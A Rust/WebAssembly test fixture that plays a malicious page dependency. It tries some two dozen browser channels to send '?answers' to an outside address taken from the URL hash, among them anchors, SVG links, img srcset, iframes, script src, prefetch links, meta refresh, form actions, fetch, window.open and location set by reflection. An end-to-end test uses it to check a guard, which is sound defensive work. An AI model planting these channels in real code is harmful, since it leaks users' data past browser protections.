//! A module that has turned malicious, as a dependency of the pages could: it has their glue and
//! their guard, and tries to say something to the outside through every function that the glue
//! gives it. The part of the address after `#` says which way and which port; the end-to-end test
//! `malice` opens it with and without the guard and counts what arrives.

use js_sys::Reflect;
use wasm_bindgen::prelude::*;
use web_sys::{Document, Element, HtmlAnchorElement, HtmlElement, HtmlImageElement, Window};

fn main() {
    let window = web_sys::window().expect_throw("a window");
    let document = window.document().expect_throw("a document");
    let hash = window.location().hash().unwrap_or_default();
    let Some((way, address)) = hash.trim_start_matches('#').split_once('@') else {
        return;
    };
    // Refused or not, the test has to see the end of it.
    let _ = attempt(way, &format!("http://{address}/{way}?answers"), &window, &document);
    document.set_title("tried");
}

fn attempt(way: &str, to: &str, window: &Window, document: &Document) -> Result<(), JsValue> {
    match way {
        "anchor" => {
            let anchor = anchor(document)?;
            anchor.set_href(to);
            return click(&anchor);
        }
        "anchor-attribute" => return click(&attribute(document, "a", "href", to)?),
        "anchor-upper" => return click(&attribute(document, "a", "HREF", to)?),
        "anchor-blank" => {
            let anchor = anchor(document)?;
            anchor.set_attribute("target", "_blank")?;
            anchor.set_href(to);
            return click(&anchor);
        }
        "anchor-by-name" => {
            let anchor = anchor(document)?;
            Reflect::set(&anchor, &"href".into(), &to.into())?;
            return click(&anchor);
        }
        "anchor-svg" => return svg_anchor(document, to),
        "area" => return click(&attribute(document, "area", "href", to)?),
        "image" => document.create_element("img")?.unchecked_into::<HtmlImageElement>().set_src(to),
        "image-attribute" => drop(attribute(document, "img", "srcset", to)?),
        "input" => drop(attribute(document, "input", "src", to)?),
        "handler" => {
            let run = format!("location.href = '{to}'");
            return click(&attribute(document, "button", "onclick", &run)?);
        }
        "frame" => drop(attribute(document, "iframe", "src", to)?),
        "object" => drop(attribute(document, "object", "data", to)?),
        "script" => drop(attribute(document, "script", "src", to)?),
        "link-preconnect" | "link-prefetch" => {
            let link = attribute(document, "link", "href", to)?;
            link.set_attribute("rel", way.trim_start_matches("link-"))?;
        }
        "meta" => {
            let meta = document.create_element("meta")?;
            meta.set_attribute("http-equiv", "refresh")?;
            meta.set_attribute("content", &format!("0;url={to}"))?;
            document.body().expect_throw("a body").append_child(&meta)?;
        }
        "form" => {
            let form = attribute(document, "form", "action", to)?;
            let button = document.create_element("button")?;
            form.append_child(&button)?;
            return click(&button);
        }
        "markup" => {
            let body = document.body().expect_throw("a body");
            body.set_inner_html(&format!("<meta http-equiv=refresh content='0;url={to}'>"));
        }
        "popup" => drop(by_name(window, "open", to)?),
        "fetch" => drop(by_name(window, "fetch", to)?),
        "location-by-name" => drop(Reflect::set(&window.location(), &"href".into(), &to.into())?),
        "window-by-name" => drop(Reflect::set(window, &"location".into(), &to.into())?),
        "history" => {
            let query = format!("?{way}");
            window.history()?.push_state_with_url(&JsValue::NULL, "", Some(&query))?;
        }
        _ => return Err(way.into()),
    }
    Ok(())
}

/// An anchor in the page, still without an address.
fn anchor(document: &Document) -> Result<HtmlAnchorElement, JsValue> {
    let element = document.create_element("a")?;
    document.body().expect_throw("a body").append_child(&element)?;
    Ok(element.unchecked_into())
}

/// An element in the page with an attribute.
fn attribute(document: &Document, tag: &str, name: &str, value: &str) -> Result<Element, JsValue> {
    let element = document.create_element(tag)?;
    element.set_attribute(name, value)?;
    document.body().expect_throw("a body").append_child(&element)?;
    Ok(element)
}

/// An anchor of a picture has no click of its own; a click on what stands in it is one on it.
fn svg_anchor(document: &Document, to: &str) -> Result<(), JsValue> {
    let space = Some("http://www.w3.org/2000/svg");
    let picture = document.create_element_ns(space, "svg")?;
    let anchor = document.create_element_ns(space, "a")?;
    let foreign = document.create_element_ns(space, "foreignObject")?;
    let inside = document.create_element("span")?;
    anchor.set_attribute("href", to)?;
    document.body().expect_throw("a body").append_child(&picture)?;
    picture.append_child(&anchor)?;
    anchor.append_child(&foreign)?;
    foreign.append_child(&inside)?;
    click(&inside)
}

fn click(element: &Element) -> Result<(), JsValue> {
    element.unchecked_ref::<HtmlElement>().click();
    Ok(())
}

/// Calls a function of the window that the glue does not give, found by its name.
fn by_name(window: &Window, name: &str, to: &str) -> Result<JsValue, JsValue> {
    let function: js_sys::Function = Reflect::get(window, &name.into())?.dyn_into()?;
    function.call1(window, &to.into())
}
